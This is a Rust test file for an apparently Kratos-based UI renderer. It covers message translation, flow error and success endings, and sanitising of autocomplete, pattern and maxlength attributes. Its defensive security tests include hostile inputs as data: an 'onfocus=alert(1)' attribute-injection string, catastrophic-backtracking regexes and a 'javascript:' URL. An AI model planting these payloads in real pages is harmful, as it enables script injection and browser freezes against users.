fn lookup_codes_render_as_a_list_of_secrets() {
    let all = fixtures();
    for name in [
        "v1/nodes-settings-lookup-codes.json",
        "v1/settings-flow-lookup-secret-generated.json",
    ] {
        let nodes = nodes_of(&all[name]).expect("nodes");
        let texts: Vec<NodeView> = nodes
            .iter()
            .map(node_view)
            .filter(|v| matches!(v, NodeView::Text { .. }))
            .collect();
        let [NodeView::Text {
            id, text, secrets, ..
        }] = texts.as_slice()
        else {
            panic!("{name}: {texts:?}")
        };
        assert_eq!(id.as_deref(), Some("lookup_secret_codes"));
        assert_eq!(text.id, 1050015);
        assert_eq!(secrets.len(), 12, "{name}");
        assert!(secrets.iter().all(|s| s.id == 1050009 || s.id == 1050014));
        let mut de = Translations::new();
        de.insert(1050015, "Codes: {secrets_list}");
        de.insert(1050014, "benutzt");
        let joined = message_text(text, Some(&de));
        assert!(joined.starts_with("Codes: "), "{joined}");
        // Each code line translated on its own.
        for secret in secrets {
            let line = message_text(secret, Some(&de));
            if secret.id == 1050014 {
                assert_eq!(line, "benutzt");
            } else {
                assert_eq!(line, secret.text);
            }
        }
    }
}

fn catalogue_entry(id: i64) -> Value {
    shared("message-ids.json")
        .as_array()
        .and_then(|all| all.iter().find(|m| m["id"] == id).cloned())
        .unwrap_or_else(|| panic!("{id} not in the catalogue"))
}

fn message(id: i64, text: &str, context: Value) -> UiText {
    serde_json::from_value(json!({"id": id, "text": text, "type": "info", "context": context}))
        .expect("text")
}

#[test]
fn catalogue_messages_translate_with_their_real_context_keys() {
    let de = Translations::from_value(&json!({
        "4000006": "Die Zugangsdaten sind ungültig.",
        "1050006": "Ihr Geheimnis: {secret}",
        "1010023": "Code an {address} senden",
        "4000003": "Mindestens {min_length} Zeichen, aber {actual_length} erhalten",
        "1050018": "Sicherheitsschlüssel „{display_name}“ entfernen ({added_at})",
        "4000026": "{allowed_types_list} erwartet, {actual_type} erhalten",
        "1010002": "Mit {provider} anmelden",
    }))
    .expect("translations");

    let e = catalogue_entry(4000006);
    assert!(e.get("context").is_none());
    let m = message(4000006, e["text"].as_str().unwrap_or(""), json!(null));
    assert_eq!(
        message_text(&m, Some(&de)),
        "Die Zugangsdaten sind ungültig."
    );
    assert_eq!(message_text(&m, None), e["text"].as_str().unwrap_or(""));

    assert!(catalogue_entry(1050006)["context"].get("secret").is_some());
    let m = message(1050006, "ABC", json!({"secret": "ABC"}));
    assert_eq!(message_text(&m, Some(&de)), "Ihr Geheimnis: ABC");

    assert!(catalogue_entry(1010023)["context"].get("address").is_some());
    let m = message(
        1010023,
        "Send code to a@b.c",
        json!({"address": "a@b.c", "channel": "email"}),
    );
    assert_eq!(message_text(&m, Some(&de)), "Code an a@b.c senden");

    let ctx = catalogue_entry(4000003)["context"].clone();
    assert_eq!(ctx, json!({"actual_length": 3, "min_length": 5}));
    let m = message(4000003, "length must be >= 5, but got 3", ctx);
    assert_eq!(
        message_text(&m, Some(&de)),
        "Mindestens 5 Zeichen, aber 3 erhalten"
    );

    let m = message(
        1050018,
        "Remove security key \"yubi\"",
        json!({"display_name": "yubi", "added_at": "2024-01-01T00:00:00Z", "added_at_unix": 1}),
    );
    assert_eq!(
        message_text(&m, Some(&de)),
        "Sicherheitsschlüssel „yubi“ entfernen (2024-01-01T00:00:00Z)"
    );

    let m = message(
        4000026,
        "expected string, but got number",
        json!({"allowed_types": ["string", "null"], "actual_type": "number"}),
    );
    assert_eq!(
        message_text(&m, Some(&de)),
        "string, null erwartet, number erhalten"
    );

    // A context missing a key leaves the placeholder visible rather than inventing text.
    let m = message(1010002, "Sign in with GitHub", json!({}));
    assert_eq!(message_text(&m, Some(&de)), "Mit {provider} anmelden");
}

#[test]
fn every_catalogue_text_interpolates_its_own_context_without_panicking() {
    let all = shared("message-ids.json");
    let entries = all.as_array().expect("list");
    let mut translations = Translations::new();
    for entry in entries {
        if let (Some(id), Some(text)) = (entry["id"].as_i64(), entry["text"].as_str()) {
            translations.insert(id, text);
        }
    }
    assert!(translations.len() > 100);
    for entry in entries {
        let Some(id) = entry["id"].as_i64() else {
            continue;
        };
        let m = message(
            id,
            "server",
            entry.get("context").cloned().unwrap_or(Value::Null),
        );
        let text = message_text(&m, Some(&translations));
        if entry["text"].is_null() {
            assert_eq!(text, "server");
        }
    }
}

#[test]
fn labels_of_real_nodes() {
    let all = fixtures();
    let nodes = nodes_of(&all["v1/login-flow-oidc-password.json"]).expect("nodes");
    let labels: Vec<Option<String>> = nodes.iter().map(label_text).collect();
    assert_eq!(labels[4].as_deref(), Some("Sign in with GitHub"));
    assert_eq!(labels[8], None, "csrf_token has no label");
    let mut de = Translations::new();
    de.insert(1010002, "Mit {provider} anmelden");
    assert_eq!(
        ory_wasm::ui::translated_label(&nodes[4], Some(&de)).as_deref(),
        Some("Mit GitHub anmelden")
    );
}

// ---- endings ----

fn error_fixture(name: &str) -> Error {
    let all = fixtures();
    let body = all[name].clone();
    let status: u16 = name
        .trim_end_matches(".json")
        .rsplit('-')
        .next()
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("status in {name}"));
    let mut error = Error::from_http(status, Some(&&body), false);
    error.body = Some(body);
    error
}

fn fail(kind: FlowKind, error: &Error) -> Ending {
    ending(kind, Outcome::Failure(error))
}

#[test]
fn every_error_fixture_has_its_ending() {
    let return_to = EndingContext {
        return_to: Some("https://app.example/settings".into()),
    };
    for era in ["v0", "v1"] {
        let f = |name: &str| error_fixture(&format!("{era}/{name}"));
        assert_eq!(
            fail(
                FlowKind::Login,
                &f("error-self-service-flow-expired-410.json")
            ),
            Ending::LoadFlow {
                id: "0c2f3b5e-9a8d-4c1b-9e7f-5d6a4b3c2e10".into(),
                keep_input: true
            }
        );
        assert_eq!(
            fail(FlowKind::Login, &f("error-flow-expired-get-410.json")),
            Ending::Restart { keep_input: true }
        );
        assert_eq!(
            fail(
                FlowKind::Settings,
                &f("error-security-csrf-violation-403.json")
            ),
            Ending::Restart { keep_input: false }
        );
        assert_eq!(
            fail(
                FlowKind::Login,
                &f("error-session-already-available-400.json")
            ),
            Ending::AlreadySignedIn
        );
        let inactive = f("error-session-inactive-401.json");
        assert_eq!(
            ending_with(FlowKind::Settings, Outcome::Failure(&inactive), &return_to),
            Ending::StartLogin {
                aal: None,
                refresh: false,
                return_to: return_to.return_to.clone()
            }
        );
        assert!(matches!(
            fail(FlowKind::Login, &inactive),
            Ending::Message { retry: false, .. }
        ));
        // whoami's 401 has no error id; outside whoami it is just an HTTP error.
        assert!(matches!(
            fail(FlowKind::Login, &f("error-whoami-401.json")),
            Ending::Message { retry: false, ref kind, .. } if kind == "http"
        ));
    }
    let aal2 = error_fixture("v0/error-session-aal2-required-403.json");
    assert_eq!(
        ending_with(FlowKind::Settings, Outcome::Failure(&aal2), &return_to),
        Ending::StartLogin {
            aal: Some("aal2".into()),
            refresh: false,
            return_to: return_to.return_to.clone()
        }
    );
    let location = error_fixture("v1/error-browser-location-change-required-422.json");
    assert_eq!(
        fail(FlowKind::Login, &location),
        Ending::Navigate(
            "http://127.0.0.1:4433/self-service/login/browser?aal=aal2&return_to=http%3A%2F%2F127.0.0.1%3A4455%2Fdashboard".into()
        )
    );
    let disabled = error_fixture("v1/error-registration-disabled-400.json");
    assert_eq!(
        fail(FlowKind::Registration, &disabled),
        Ending::Message {
            text: "Registration is not allowed because it was disabled.".into(),
            retry: false,
            kind: "self_service_flow_disabled".into()
        }
    );
}

#[test]
fn constructed_failures_have_their_endings() {
    let from = |status: u16, body: Value| {
        let mut e = Error::from_http(status, Some(&&body), false);
        e.body = Some(body);
        e
    };
    // 400 with the flow: re-render it with its messages.
    let invalid = fixtures()["v0/login-flow-invalid-credentials.json"].clone();
    assert_eq!(
        fail(FlowKind::Login, &from(400, invalid.clone())),
        Ending::Rerender(invalid)
    );
    // Replaced, with and without the new flow.
    let replaced = json!({"error": {"id": "self_service_flow_replaced", "code": 410},
                          "use_flow_id": "new"});
    assert_eq!(
        fail(FlowKind::Settings, &from(410, replaced)),
        Ending::LoadFlow {
            id: "new".into(),
            keep_input: false
        }
    );
    let replaced = json!({"error": {"id": "self_service_flow_replaced", "code": 410}});
    assert_eq!(
        fail(FlowKind::Settings, &from(410, replaced)),
        Ending::Restart { keep_input: false }
    );
    // 404 (flow gone), whatever the id.
    let gone = json!({"error": {"code": 404, "message": "Unable to locate the resource"}});
    assert_eq!(
        fail(FlowKind::Recovery, &from(404, gone)),
        Ending::Restart { keep_input: false }
    );
    // Refresh: come back to the return_to Kratos named.
    let refresh = json!({"error": {"id": "session_refresh_required", "code": 403},
        "redirect_browser_to": "https://k.example/self-service/login/browser?refresh=true&return_to=https%3A%2F%2Fapp.example%2Fsettings"});
    assert_eq!(
        fail(FlowKind::Settings, &from(403, refresh)),
        Ending::StartLogin {
            aal: None,
            refresh: true,
            return_to: Some("https://app.example/settings".into())
        }
    );
    // Network trouble keeps the input and offers a retry.
    for error in [Error::network("Failed to fetch"), Error::timeout(10_000)] {
        assert!(matches!(
            fail(FlowKind::Login, &error),
            Ending::Message { retry: true, .. }
        ));
    }
    let server = from(500, json!({"error": {"code": 500, "message": "boom"}}));
    assert!(matches!(
        fail(FlowKind::Login, &server),
        Ending::Message { retry: true, ref text, .. } if text == "boom"
    ));
    // A 400 without a flow body cannot be re-rendered.
    let mut bare = Error::from_http::<&Value>(400, None, false);
    bare.kind = ory_wasm::ErrorKind::FlowValidation;
    assert!(matches!(
        fail(FlowKind::Login, &bare),
        Ending::Message { .. }
    ));
}

#[test]
fn success_fixtures_have_their_endings() {
    let all = fixtures();
    let ok = |kind: FlowKind, body: &Value| ending(kind, Outcome::Success(body));

    let browser = &all["v1/login-success-browser.json"];
    assert_eq!(
        ok(FlowKind::Login, browser),
        Ending::Done {
            session: Some(browser["session"].clone()),
            identity: None
        }
    );
    let back = EndingContext {
        return_to: Some("https://app.example/home".into()),
    };
    assert_eq!(
        ending_with(FlowKind::Login, Outcome::Success(browser), &back),
        Ending::Continue {
            steps: vec![Step::Navigate("https://app.example/home".into())],
            session: Some(browser["session"].clone())
        }
    );

    let api = &all["v1/login-success-api.json"];
    let Ending::Continue { steps, session } = ok(FlowKind::Login, api) else {
        panic!()
    };
    let [Step::SetSessionToken(token)] = steps.as_slice() else {
        panic!("{steps:?}")
    };
    assert_eq!(Some(token.expose()), api["session_token"].as_str());
    assert!(session.is_some());

    let registered = &all["v1/registration-success-browser.json"];
    assert_eq!(
        ok(FlowKind::Registration, registered),
        Ending::Done {
            session: Some(registered["session"].clone()),
            identity: Some(registered["identity"].clone())
        }
    );
    let registered_api = &all["v1/registration-success-api.json"];
    assert!(matches!(
        ok(FlowKind::Registration, registered_api),
        Ending::Continue { ref steps, .. } if matches!(steps.as_slice(), [Step::SetSessionToken(_)])
    ));

    // Flows answered with a success state are re-rendered: they carry the success message.
    for (name, kind) in [
        (
            "v1/settings-flow-lookup-secret-generated.json",
            FlowKind::Settings,
        ),
        ("v1/recovery-flow-code-sent.json", FlowKind::Recovery),
        (
            "v1/verification-flow-code-sent.json",
            FlowKind::Verification,
        ),
    ] {
        assert_eq!(
            ok(kind, &all[name]),
            Ending::Rerender(all[name].clone()),
            "{name}"
        );
    }
    let mut settings = all["v1/settings-flow-unlink-all-methods.json"].clone();
    settings["state"] = json!("success");
    assert_eq!(
        ok(FlowKind::Settings, &settings),
        Ending::Rerender(settings.clone())
    );

    // Settings success that changed the email: verify it, then go where Kratos says.
    settings["continue_with"] = json!([
        {"action": "show_verification_ui",
         "flow": {"id": "v1", "verifiable_address": "a@b.c", "url": "https://k.example/verification?flow=v1"}},
        {"action": "redirect_browser_to", "redirect_browser_to": "https://app.example/done"},
        {"action": "future_action", "x": 1}
    ]);
    assert_eq!(
        ok(FlowKind::Settings, &settings),
        Ending::Continue {
            steps: vec![
                Step::ShowFlow {
                    kind: FlowKind::Verification,
                    id: "v1".into(),
                    url: Some("https://k.example/verification?flow=v1".into())
                },
                Step::Navigate("https://app.example/done".into())
            ],
            session: None
        }
    );

    // Registration with continue_with: Kratos' order, token not duplicated.
    let body = json!({
        "session_token": "tok", "session": {"id": "s"}, "identity": {"id": "i"},
        "continue_with": [
            {"action": "set_ory_session_token", "ory_session_token": "tok"},
            {"action": "show_verification_ui", "flow": {"id": "v", "verifiable_address": "a@b.c"}}
        ]
    });
    let Ending::Continue { steps, .. } =
        ending_with(FlowKind::Registration, Outcome::Success(&body), &back)
    else {
        panic!()
    };
    assert_eq!(steps.len(), 2, "{steps:?}");
    assert!(matches!(steps[0], Step::SetSessionToken(_)));
    assert!(matches!(
        steps[1],
        Step::ShowFlow {
            kind: FlowKind::Verification,
            url: None,
            ..
        }
    ));

    // Recovery code success in v1: continue in settings.
    let recovered = json!({"id": "r", "ui": {"method": "POST", "nodes": []}, "state": "passed_challenge",
        "continue_with": [{"action": "show_settings_ui", "flow": {"id": "s", "url": "javascript:x"}}]});
    assert_eq!(
        ok(FlowKind::Recovery, &recovered),
        Ending::Continue {
            steps: vec![Step::ShowFlow {
                kind: FlowKind::Settings,
                id: "s".into(),
                url: None
            }],
            session: None
        }
    );
    // Anything odd is still an ending.
    for body in [
        json!(null),
        json!([]),
        json!("x"),
        json!({"continue_with": "nope"}),
    ] {
        assert!(matches!(
            ok(FlowKind::Login, &body),
            Ending::Done { session: None, .. }
        ));
    }
}

/// The `Field` view of one text-like input with these attributes.
fn field_view(attributes: Value) -> NodeView {
    let mut attributes = attributes;
    if let Some(map) = attributes.as_object_mut() {
        map.insert("node_type".into(), json!("input"));
    }
    node_view(&hostile(attributes, "input", "default", None))
}

/// Attack (security item 8): `autocomplete` straight from the server asks the browser to
/// autofill what an auth form never needs — card numbers, addresses — into fields the server
/// reads back, or the password into a visible text field. Only an allow-list of auth-form tokens
/// renders, in the shapes HTML allows.
#[test]
fn autocomplete_is_an_auth_form_allow_list() {
    let autocomplete_of = |input_type: &str, autocomplete: &str| match field_view(
        json!({"name": "x", "type": input_type, "autocomplete": autocomplete}),
    ) {
        NodeView::Field { autocomplete, .. } => autocomplete,
        other => panic!("{input_type} {autocomplete}: {other:?}"),
    };
    for (input_type, given, kept) in [
        // What Kratos sends (its enum) and the usual names of a profile form.
        ("text", "username webauthn", Some("username webauthn")),
        ("email", "email", Some("email")),
        ("tel", "tel", Some("tel")),
        ("url", "url", Some("url")),
        ("password", "current-password", Some("current-password")),
        ("password", "new-password", Some("new-password")),
        ("text", "one-time-code", Some("one-time-code")),
        ("text", "given-name", Some("given-name")),
        ("text", "family-name", Some("family-name")),
        ("text", "nickname", Some("nickname")),
        ("text", "off", Some("off")),
        ("text", "on", Some("on")),
        // Normalised: case and spacing.
        ("text", "  Username\tWEBAUTHN ", Some("username webauthn")),
        // Section and address-kind prefixes carry nothing an auth form needs: dropped.
        ("email", "section-login email", Some("email")),
        ("email", "shipping email", Some("email")),
        ("tel", "billing mobile tel", Some("tel")),
        // Payment, address, birthday and unknown tokens: no autocomplete at all.
        ("text", "cc-number", None),
        ("text", "billing cc-number", None),
        ("text", "cc-csc", None),
        ("text", "cc-exp", None),
        ("text", "street-address", None),
        ("text", "shipping postal-code", None),
        ("text", "bday", None),
        ("text", "transaction-amount", None),
        ("text", "cc-number webauthn", None),
        ("text", "email cc-number", None),
        ("text", "username\" onfocus=\"alert(1)", None),
        // Shapes HTML does not allow: two field names, `webauthn` alone or first, `on webauthn`.
        ("text", "email username", None),
        ("text", "webauthn", None),
        ("text", "webauthn username", None),
        ("text", "off webauthn", None),
        ("text", "section-x", None),
        ("text", "", None),
        // A password manager must never fill the password into a field that is not a password
        // field (it would be shown, and sent as a trait).
        ("text", "current-password", None),
        ("email", "new-password", None),
        ("text", "section-a current-password", None),
    ] {
        assert_eq!(
            autocomplete_of(input_type, given).as_deref(),
            kept,
            "{input_type} {given:?}"
        );
    }
}

/// Attack (security item 8): a `pattern` is a regular expression the browser runs on every
/// keystroke; a catastrophic one (`(a+)+$`) freezes the page. Only a single character class with
/// one quantifier — linear to match, what Kratos sends (`[0-9]+`) — is kept.
#[test]
fn patterns_are_only_single_character_classes() {
    let pattern_of = |pattern: &str| match field_view(
        json!({"name": "code", "type": "text", "pattern": pattern}),
    ) {
        NodeView::Field { pattern, .. } => pattern,
        other => panic!("{pattern}: {other:?}"),
    };
    for kept in [
        "[0-9]+",
        "[0-9]{6}",
        "[0-9]{6,8}",
        "[A-Za-z0-9]*",
        "[a-z]",
        "[0-9]{4,}",
    ] {
        assert_eq!(pattern_of(kept).as_deref(), Some(kept), "{kept}");
    }
    for dropped in [
        "(a+)+",
        "(a*)*",
        "(a|a)*",
        "(a|aa)+$",
        "([0-9]+)+",
        "[0-9]+[0-9]+[0-9]+[0-9]+[0-9]+x",
        "a*a*a*a*a*a*a*a*b",
        "(.*a){20}",
        "^(\\w+\\s?)*$",
        "[0-9]+?",
        "[0-9]{6}{6}",
        "[0-9]{99999}",
        "[9-0]+",
        "[0-9-]+",
        "[^0-9]+",
        "[]+",
        "[0-9",
        "0-9]+",
        "\\d+",
        ".*",
        "",
        "[0-9]+\" onfocus=\"x",
    ] {
        assert_eq!(pattern_of(dropped), None, "{dropped}");
    }
    let long = format!("[{}]+", "a-z".repeat(40));
    assert_eq!(pattern_of(&long), None, "too long to be a real pattern");
}

/// Attack (security item 8): `maxlength` silently truncates what is typed or pasted: on a new
/// password a password manager's generated password would be cut, and the account then has a
/// password nobody knows. Kept only on fields that are not passwords, and only when positive.
#[test]
fn maxlength_never_truncates_passwords() {
    let maxlength_of = |input_type: &str, maxlength: i64| match field_view(
        json!({"name": "x", "type": input_type, "maxlength": maxlength}),
    ) {
        NodeView::Field { maxlength, .. } => maxlength,
        other => panic!("{input_type} {maxlength}: {other:?}"),
    };
    assert_eq!(maxlength_of("text", 6), Some(6));
    assert_eq!(maxlength_of("email", 320), Some(320));
    assert_eq!(maxlength_of("text", 0), None);
    assert_eq!(maxlength_of("text", -1), None);
    assert_eq!(maxlength_of("text", i64::MAX), None);
    assert_eq!(maxlength_of("password", 4), None);
    assert_eq!(maxlength_of("password", 64), None);
}

// --- What the renderer reads of a flow it cannot fully read (no silent empty form) ---

#[test]
fn unreadable_nodes_are_left_out_and_named_the_rest_is_read() {
    use ory_wasm::models::{ui_container_readable, UiContainer, UnreadableNode};
    let mut ui = shared("fixtures/v1/login-flow-password-browser.json")["ui"].take();
    let all = ui["nodes"].as_array().unwrap().len();
    let (container, unreadable) = ui_container_readable(&ui);
    assert_eq!(container.map(|c| c.nodes.len()), Some(all));
    assert!(unreadable.is_empty());

    // Texts without ids (Kratos before v0.6) are read, with id 0, by the renderer and serde alike.
    for node in ui["nodes"].as_array_mut().unwrap() {
        if let Some(label) = node["meta"].get_mut("label") {
            label.as_object_mut().unwrap().remove("id");
        }
    }
    let (container, unreadable) = ui_container_readable(&ui);
    assert!(unreadable.is_empty());
    assert_eq!(container.unwrap().nodes.len(), all);
    let typed: UiContainer = serde_json::from_value(ui.clone()).expect("serde reads it too");
    assert!(typed
        .nodes
        .iter()
        .filter_map(|n| n.meta.label.as_ref())
        .all(|l| l.id == 0));

    // One node the SDK cannot read: the others are read, and it is named.
    ui["nodes"][1]["group"] = serde_json::json!(42);
    let name = ui["nodes"][1]["attributes"]["name"]
        .as_str()
        .map(str::to_owned);
    let (container, unreadable) = ui_container_readable(&ui);
    assert_eq!(container.unwrap().nodes.len(), all - 1);
    assert_eq!(
        unreadable,
        vec![UnreadableNode {
            path: "ui.nodes[1]".into(),
            name
        }]
    );

    // A container whose own members cannot be read: nothing, and `ui` named.
    ui["method"] = serde_json::json!(5);
    let (container, unreadable) = ui_container_readable(&ui);
    assert!(container.is_none());
    assert_eq!(unreadable[0].path, "ui");
}
